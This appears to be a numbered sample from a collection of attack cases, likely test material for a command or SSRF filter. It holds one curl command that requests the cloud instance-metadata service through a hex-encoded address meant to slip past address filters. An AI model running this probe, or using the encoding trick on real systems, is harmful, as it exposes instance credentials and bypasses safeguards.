#!/usr/bin/env bash
# attack-class: 23
# title: curl http://0xA9FEA9FE/
# why: the metadata address written in hex

curl -s http://0xA9FEA9FE/latest/meta-data/
